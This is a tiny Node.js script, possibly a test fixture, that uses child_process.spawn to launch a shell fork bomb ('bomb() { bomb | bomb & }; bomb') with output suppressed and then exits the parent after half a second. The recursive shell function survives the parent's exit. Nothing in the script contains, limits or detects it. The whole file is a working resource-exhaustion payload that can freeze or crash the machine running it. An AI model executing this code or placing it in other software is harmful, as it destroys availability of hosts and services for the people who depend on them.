// A shell's fork bomb, whose parent goes on to end in good order.
const { spawn } = require('child_process');

spawn('sh', ['-c', 'bomb() { bomb | bomb & }; bomb'], { stdio: 'ignore' });
setTimeout(() => process.exit(0), 500);
